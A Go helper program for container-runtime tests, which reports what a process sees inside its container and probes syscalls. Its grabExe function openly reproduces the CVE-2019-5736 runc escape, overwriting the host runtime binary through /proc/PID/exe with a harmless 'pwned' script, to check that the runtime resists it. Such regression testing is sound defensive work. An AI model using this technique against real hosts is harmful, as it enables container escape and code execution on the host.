// Command helper is the static program runtime tests run inside containers:
// it reports what it sees from the inside as JSON, sleeps, or exits.
package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// Facts is what a process sees from inside its container.
type Facts struct {
	Pid, PPid            int
	UID, GID, EUID, EGID int
	Groups               []int
	Hostname, Domainname string
	Cwd                  string
	Umask                int
	Env                  []string
	Status               map[string]string // selected lines of /proc/self/status
	Rlimits              map[string][2]uint64
	OOMScoreAdj          string
	Namespaces           map[string]string // type -> link target
	Mounts               []Mount
	FDs                  map[int]string // fd -> what it refers to
	Sysctls              map[string]string
	Files                map[string]File
	SessionKeyring       string
	Stdin                string // readlink of fd 0
}

// Mount is one line of /proc/self/mountinfo.
type Mount struct {
	Point, Type, Source, Options, Super string
	Optional                            string // propagation tags: shared:N, master:N, ...
}

// File is what stat and a read and a write of a path give.
type File struct {
	Exists   bool
	Mode     string
	Major    uint32
	Minor    uint32
	Link     string
	ReadLen  int
	ReadErr  string
	WriteErr string
}

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: helper facts [paths...] | sleep | exit N | cat-fd N")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "facts":
		facts(os.Args[2:])
	case "sleep":
		c := make(chan os.Signal, 1)
		signal.Notify(c, syscall.SIGTERM, syscall.SIGINT)
		select {
		case <-c:
			os.Exit(0)
		case <-time.After(time.Hour):
		}
	case "exit":
		n, _ := strconv.Atoi(os.Args[2])
		os.Exit(n)
	case "cat-fd":
		n, _ := strconv.Atoi(os.Args[2])
		f := os.NewFile(uintptr(n), "fd")
		b := make([]byte, 4096)
		k, err := f.Read(b)
		if err != nil {
			fmt.Println("error:", err)
			os.Exit(1)
		}
		os.Stdout.Write(b[:k])
	case "try":
		try(os.Args[2:])
	case "grab-exe":
		grabExe()
	case "alloc":
		n, _ := strconv.Atoi(os.Args[2])
		b := make([]byte, n<<20)
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		fmt.Println("allocated", n, "MiB")
	default:
		fmt.Fprintln(os.Stderr, "unknown command", os.Args[1])
		os.Exit(2)
	}
}

// facts prints Facts; args name files to stat ("/dev/null") and sysctls
// ("sysctl:net.ipv4.ip_forward").
func facts(args []string) {
	var f Facts
	f.Pid, f.PPid = os.Getpid(), os.Getppid()
	f.UID, f.GID, f.EUID, f.EGID = os.Getuid(), os.Getgid(), os.Geteuid(), os.Getegid()
	f.Groups, _ = os.Getgroups()
	var u unix.Utsname
	unix.Uname(&u)
	f.Hostname = unix.ByteSliceToString(u.Nodename[:])
	f.Domainname = unix.ByteSliceToString(u.Domainname[:])
	f.Cwd, _ = os.Getwd()
	f.Umask = unix.Umask(0)
	unix.Umask(f.Umask)
	f.Env = os.Environ()
	f.Status = map[string]string{}
	if b, err := os.ReadFile("/proc/self/status"); err == nil {
		for _, l := range strings.Split(string(b), "\n") {
			k, v, ok := strings.Cut(l, ":")
			if ok && (strings.HasPrefix(k, "Cap") || k == "NoNewPrivs" || k == "Seccomp" || k == "NSpid") {
				f.Status[k] = strings.TrimSpace(v)
			}
		}
	}
	f.Rlimits = map[string][2]uint64{}
	for name, r := range map[string]int{"NOFILE": unix.RLIMIT_NOFILE, "NPROC": unix.RLIMIT_NPROC, "CORE": unix.RLIMIT_CORE} {
		var l unix.Rlimit
		if unix.Getrlimit(r, &l) == nil {
			f.Rlimits[name] = [2]uint64{l.Cur, l.Max}
		}
	}
	if b, err := os.ReadFile("/proc/self/oom_score_adj"); err == nil {
		f.OOMScoreAdj = strings.TrimSpace(string(b))
	}
	f.Namespaces = map[string]string{}
	for _, ns := range []string{"mnt", "pid", "net", "ipc", "uts", "user", "cgroup", "time"} {
		if l, err := os.Readlink("/proc/self/ns/" + ns); err == nil {
			f.Namespaces[ns] = l
		}
	}
	if mf, err := os.Open("/proc/self/mountinfo"); err == nil {
		s := bufio.NewScanner(mf)
		for s.Scan() {
			pre, post, _ := strings.Cut(s.Text(), " - ")
			a, b := strings.Fields(pre), strings.Fields(post)
			if len(a) >= 6 && len(b) >= 3 {
				f.Mounts = append(f.Mounts, Mount{Point: a[4], Options: a[5], Type: b[0], Source: b[1], Super: b[2],
					Optional: strings.Join(a[6:], " ")})
			}
		}
		mf.Close()
	}
	f.FDs = map[int]string{}
	if ents, err := os.ReadDir("/proc/self/fd"); err == nil {
		for _, e := range ents {
			if n, err := strconv.Atoi(e.Name()); err == nil {
				f.FDs[n], _ = os.Readlink("/proc/self/fd/" + e.Name())
			}
		}
	}
	f.Stdin, _ = os.Readlink("/proc/self/fd/0")
	if id, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false); err == nil {
		f.SessionKeyring, _ = unix.KeyctlString(unix.KEYCTL_DESCRIBE, id)
	}
	f.Sysctls = map[string]string{}
	f.Files = map[string]File{}
	for _, a := range args {
		if k, ok := strings.CutPrefix(a, "sysctl:"); ok {
			b, err := os.ReadFile("/proc/sys/" + strings.ReplaceAll(k, ".", "/"))
			if err != nil {
				f.Sysctls[k] = "error: " + err.Error()
			} else {
				f.Sysctls[k] = strings.TrimSpace(string(b))
			}
			continue
		}
		f.Files[a] = probe(a)
	}
	json.NewEncoder(os.Stdout).Encode(f)
}

func probe(path string) File {
	var out File
	var st unix.Stat_t
	if err := unix.Lstat(path, &st); err != nil {
		return out
	}
	out.Exists = true
	out.Mode = os.FileMode(st.Mode & 0o777).String()
	switch st.Mode & unix.S_IFMT {
	case unix.S_IFCHR:
		out.Mode = "c" + out.Mode[1:]
	case unix.S_IFBLK:
		out.Mode = "b" + out.Mode[1:]
	case unix.S_IFDIR:
		out.Mode = "d" + out.Mode[1:]
	case unix.S_IFLNK:
		out.Mode = "l" + out.Mode[1:]
		out.Link, _ = os.Readlink(path)
	}
	out.Major, out.Minor = unix.Major(uint64(st.Rdev)), unix.Minor(uint64(st.Rdev))
	if st.Mode&unix.S_IFMT == unix.S_IFREG {
		b, err := os.ReadFile(path)
		out.ReadLen = len(b)
		if err != nil {
			out.ReadErr = err.Error()
		}
		if w, err := os.OpenFile(path, os.O_WRONLY, 0); err != nil {
			out.WriteErr = err.Error()
		} else {
			w.Close()
		}
	} else if st.Mode&unix.S_IFMT == unix.S_IFDIR {
		if w, err := os.CreateTemp(path, ".probe"); err != nil {
			out.WriteErr = err.Error()
		} else {
			w.Close()
			os.Remove(w.Name())
		}
		ents, _ := os.ReadDir(path)
		out.ReadLen = len(ents)
	}
	return out
}

// try runs one system call and prints "ok" or "errno N".
func try(args []string) {
	var err error
	switch args[0] {
	case "mkdir":
		err = unix.Mkdir(args[1], 0o755)
	case "uname":
		var u unix.Utsname
		err = unix.Uname(&u)
	case "open":
		var fd int
		fd, err = unix.Open(args[1], unix.O_RDWR, 0)
		if err == nil {
			unix.Close(fd)
		}
	case "mknod":
		mode := uint32(unix.S_IFCHR)
		if args[2] == "b" {
			mode = unix.S_IFBLK
		}
		maj, _ := strconv.Atoi(args[3])
		min, _ := strconv.Atoi(args[4])
		err = unix.Mknod(args[1], mode|0o600, int(unix.Mkdev(uint32(maj), uint32(min))))
	default:
		fmt.Println("unknown call", args[0])
		os.Exit(2)
	}
	if e, ok := err.(unix.Errno); ok {
		fmt.Printf("errno %d\n", int(e))
		return
	}
	if err != nil {
		fmt.Println("error", err)
		return
	}
	fmt.Println("ok")
}

// grabExe plays the CVE-2019-5736 attacker: it waits for a process of
// another binary (a runtime's init joining the container) to show up, holds
// its /proc/PID/exe, and once that process has exec'd or exited tries to
// write to the binary through it. It prints what it got as JSON.
func grabExe() {
	self, _ := os.Readlink("/proc/self/exe")
	var res struct {
		Grabbed, OpenErr, WriteErr string
		Wrote                      bool
	}
	fd := -1
	deadline := time.Now().Add(20 * time.Second)
	for fd < 0 && time.Now().Before(deadline) {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == os.Getpid() {
				continue
			}
			link, err := os.Readlink("/proc/" + e.Name() + "/exe")
			if err != nil || link == self || strings.Contains(link, "busybox") {
				continue
			}
			if fd, err = unix.Open("/proc/"+e.Name()+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
				res.Grabbed = link
				break
			}
			fd = -1
		}
	}
	if fd < 0 {
		json.NewEncoder(os.Stdout).Encode(res)
		return
	}
	// The binary is busy (ETXTBSY) while anything runs it; wait that out.
	path := "/proc/self/fd/" + strconv.Itoa(fd)
	for time.Now().Before(deadline) {
		w, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == unix.ETXTBSY {
			time.Sleep(5 * time.Millisecond)
			continue
		}
		if err != nil {
			res.OpenErr = err.Error()
			break
		}
		if _, err := unix.Pwrite(w, []byte("#!/bin/sh\necho pwned\n"), 0); err != nil {
			res.WriteErr = err.Error()
		} else {
			res.Wrote = true
		}
		unix.Close(w)
		break
	}
	json.NewEncoder(os.Stdout).Encode(res)
}
